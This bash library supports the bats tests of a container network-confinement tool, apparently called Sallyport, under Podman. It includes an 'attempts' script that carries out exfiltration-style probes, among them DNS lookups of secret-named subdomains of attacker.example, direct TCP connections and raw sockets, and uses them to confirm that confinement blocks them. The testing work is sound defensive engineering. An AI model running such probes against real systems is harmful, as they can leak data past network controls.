# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash
#
# Podman for the tests: the distribution's, configured in /etc/containers as an administrator would, which on a machine
# of its own (tests/engines/machine) is private; storage, networks and containers are its own as well. A library for
# bats files; after common.bash. RUNTIME is what Podman, or sallyport-runtime in front of it, starts.
#
#   podman_up                     configuration, storage, the image $IMAGE, the network "named"
#   podman_hooks VARIANT [PIN...] installs the hook: VARIANT is sallyport, sallyport-mandatory, or none; PIN goes to the
#                                 end of its command line
#   podman_down                   removes all of it
#   podman ARGUMENT...            the distribution's client
#   box [OPTION...] COMMAND...    a container that asks for the network of the tests, run and removed
#   control [OPTION...] COMMAND...    the same without asking
#   keep NAME [OPTION...]         a container as of `box` that goes on, for others to look at; its process is in NAME.pid

source "$BATS_TEST_DIRNAME/image.bash"

IMAGE=localhost/sallyport-test
PODMAN_HOOKS=/etc/containers/oci/hooks.d
PODMAN_CGROUPS=/sallyport-tests/podman-$RUNTIME

# How `box` asks: by annotation. A file that asks by the runtime's name replaces it.
BOX_GLOBAL=()
BOX=(--annotation "io.sallyport.network=$NETWORK")

podman()
{
    /usr/bin/podman "$@" </dev/null 3>&-
}

podman_configure()
{
    mkdir -p "$PODMAN_HOOKS" "$WORK/podman"
    # By default Podman 4.3 reads only /usr/share/containers/oci/hooks.d.
    cat >/etc/containers/containers.conf <<CONF
[containers]
init_path = "$(type -P catatonit)"
[network]
network_backend = "netavark"
[engine]
runtime = "$RUNTIME"
cgroup_manager = "cgroupfs"
events_logger = "none"
hooks_dir = ["$PODMAN_HOOKS"]
CONF
    cat >/etc/containers/storage.conf <<CONF
[storage]
driver = "overlay"
graphroot = "$WORK/podman/storage"
runroot = "/run/containers/storage" # a long path makes conmon fail to clean up, and Podman waits 20 s for it
CONF
}

podman_image()
{
    local root=$WORK/podman/root
    image_root "$root"
    cp "$WORK/internet/ca.pem" "$root/etc/ca.pem" 2>/dev/null || true
    tar -C "$root" --numeric-owner --owner=0 --group=0 -c . |
        /usr/bin/podman import --quiet --change 'ENV PATH=/bin' --change 'CMD ["/bin/sleep", "600"]' - "$IMAGE" 3>&-
    rm -rf "$root"
}

podman_up()
{
    grep -qzx -- --inside /proc/1/cmdline || fail "podman: not on a machine of its own; use tests/engines/machine"
    chmod 711 "$BATS_RUN_TMPDIR" "$WORK" # containers with a user namespace have their files below
    podman_configure
    podman_image
    podman network create named
}

# Only our hook is between Podman and the program: it keeps what the program says, which Podman and crun do not show.
podman_hooks()
{
    local variant=$1 program=$WORK/podman/sallyport-hook
    shift
    rm -f "$PODMAN_HOOKS"/*
    [[ $variant != none ]] || return 0
    printf '#!/bin/bash\nexec %q "$@" 2> >(tee -a %q >&2)\n' "$HOOK" "$WORK/hook.said" >"$program"
    chmod 755 "$program"
    jq --arg program "$program" '.hook.path = $program | .hook.args += $ARGS.positional' --args -- "$@" \
        <"$SALLYPORT_BUILD_DIRECTORY/packaging/hooks.d/$variant.json" >"$PODMAN_HOOKS/sallyport.json"
}

podman_remove_all()
{
    podman pod rm --all --force --time 0
    podman rm --all --force --time 0
} >/dev/null 2>&1

podman_down()
{
    podman_remove_all
    podman network rm --force named >/dev/null
    podman rmi --all --force >/dev/null
    umount "$WORK/podman/storage/overlay" 2>/dev/null || true
    rm -rf --one-file-system "$WORK/podman"
    find /sys/fs/cgroup -depth -type d -path "*$PODMAN_CGROUPS*" -exec rmdir {} + 2>/dev/null || true
}

box()
{
    podman "${BOX_GLOBAL[@]}" run --rm --cgroup-parent "$PODMAN_CGROUPS" "${BOX[@]}" "$@"
}

control()
{
    podman run --rm --cgroup-parent "$PODMAN_CGROUPS" "$@"
}

keep()
{
    local name=$1
    shift
    podman "${BOX_GLOBAL[@]}" run --detach --name "$name" --pidfile "$WORK/$name.pid" \
        --cgroup-parent "$PODMAN_CGROUPS" "${BOX[@]}" "$@" "$IMAGE" sleep 600 >"$WORK/$name.log"
}

# What a container tries: the allowed way, and others, of which each leaves a trace at the far end if it gets there. The
# number makes it this test's. Past the address it tries by what the resolver of the engine does with a name.
attempts()
{
    cat <<SCRIPT
curl -sS -m 10 --cacert /etc/ca.pem -o /dev/null -w 'allowed %{http_code}\n' https://api.openai.com/
/probe tcp 203.0.113.$1 443 --timeout-ms 1000
nslookup secret-$1.attacker.example
nslookup secret-$1.attacker.example 198.51.100.53
/probe socket 17 3 0x0300
/probe socket 2 3 1
SCRIPT
}

# arrived NUMBER: what of these attempts did.
arrived()
{
    grep "^203.0.113.$1 " "$WORK/internet/arrivals" || true
    grep "^secret-$1\." "$WORK/internet/queries" || true
}

# walled OPTION...: with these options of `podman run`, without Sallyport the attempts arrive; with it only the allowed
# way does, and raw sockets do not open.
walled()
{
    local number=$((100 + BATS_TEST_NUMBER))
    run control "$@" "$IMAGE" sh -c "$(attempts "$number")"
    [[ $(arrived "$number") == *"203.0.113.$number 443"*"secret-$number"* ]] || fail "without Sallyport: $output"
    sealed "$@"
}

# sealed OPTION...: the second half of it.
sealed()
{
    local number=$((200 + BATS_TEST_NUMBER))
    run box "$@" "$IMAGE" sh -c "$(attempts "$number")"
    says_sealed "$number"
}

# says_sealed NUMBER: `$output` is that of the attempts in a sealed container.
says_sealed()
{
    says "allowed 200"
    [[ $output == *"tcp result=failed"* && $output != *"tcp result=ok"* && $output != *ETIMEDOUT* ]] || fail "$output"
    [[ $(grep -c '^socket result=failed' <<<"$output") -eq 2 ]] || fail "raw sockets: $output"
    [[ -z $(arrived "$1") ]] || fail "arrived: $(arrived "$1")"
}

# refused_box TEXT OPTION...: does not start; the hook says why in one line, and Podman where to find it.
refused_box()
{
    local text=$1
    shift
    rm -f "$WORK/hook.said"
    run box "$@" "$IMAGE" echo started
    [[ $status -ne 0 && $output != *$'\n'started* && $output != started* ]] || fail "started: $output"
    eventually test -s "$WORK/hook.said"
    [[ $(wc -l <"$WORK/hook.said") -eq 1 ]] || fail "expected one line: $(<"$WORK/hook.said")"
    grep -qF -- "$text" "$WORK/hook.said" || fail "expected \`$text\` in: $(<"$WORK/hook.said")"
}
